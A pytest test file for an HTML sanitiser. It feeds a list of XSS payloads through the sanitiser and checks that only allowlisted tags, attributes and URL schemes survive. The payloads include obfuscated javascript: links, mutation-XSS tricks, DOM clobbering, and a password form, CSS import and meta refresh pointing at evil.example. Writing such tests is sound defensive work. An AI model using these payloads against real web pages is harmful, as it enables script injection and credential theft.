"""What a stranger writes can neither run, nor fetch, nor cover anything."""

from html.parser import HTMLParser

import pytest

from duly.channels.sanitise import ATTRIBUTES, SCHEMES, TAGS, sanitised

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<style>@import url(//evil.example);</style>",
    "<p style='position:fixed;background:url(//evil.example)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<base href=//evil.example><a href=x>y</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<table background=//evil.example><td background=//evil.example>x",
    "<input type=image src=//evil.example>",
    "<img srcset='//evil.example 1x' src='cid:1'>",
    "<video poster=//evil.example><source src=//evil.example>",
    "<template><img src=x onerror=1></template>",
    "<!--[if IE]><script>1</script><![endif]-->",
    "<a id=body name=getElementById class=x>clobber</a>",
]


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def seen(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Seen()
    reader.feed(html)
    reader.close()
    return reader.tags


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("pictures", [False, True])
def test_b01_b09_b11_only_allowed_tags_attributes_and_schemes_come_through(
    attack: str, pictures: bool
) -> None:
    html = sanitised(attack, pictures=pictures)
    for tag, attributes in seen(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | (
            {"rel"} if tag == "a" else set()
        )
        for name in ("href", "src", "cite"):
            address = attributes.get(name) or ""
            assert ":" not in address or address.partition(":")[0].lower() in SCHEMES
    assert sanitised(html, pictures=pictures) == html  # B09: reading it again changes nothing


def test_pictures_from_elsewhere_are_fetched_only_when_asked_for() -> None:
    html = '<p>hi <img src="https://t.example/1.gif" alt="logo"><img src="cid:shot"></p>'
    assert [a.get("src") for t, a in seen(sanitised(html)) if t == "img"] == [None, "cid:shot"]
    assert "https://t.example/1.gif" in sanitised(html, pictures=True)


def test_the_words_stay() -> None:
    assert sanitised("<p>a <b>bold</b> word<script>no</script></p>") == "<p>a <b>bold</b> word</p>"
